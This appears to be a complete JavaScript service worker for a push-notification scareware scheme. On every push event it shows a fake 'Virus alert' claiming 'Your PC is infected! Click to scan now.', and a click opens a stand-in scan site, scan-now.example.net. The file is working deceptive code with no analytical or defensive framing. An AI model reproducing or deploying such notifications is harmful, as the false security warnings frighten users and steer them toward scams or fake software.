self.addEventListener('push',function(e){e.waitUntil(self.registration.showNotification('Virus alert',{body:'Your PC is infected! Click to scan now.',data:{u:'https://scan-now.example.net/'}}));});
self.addEventListener('notificationclick',function(e){e.waitUntil(clients.openWindow(e.notification.data.u));});
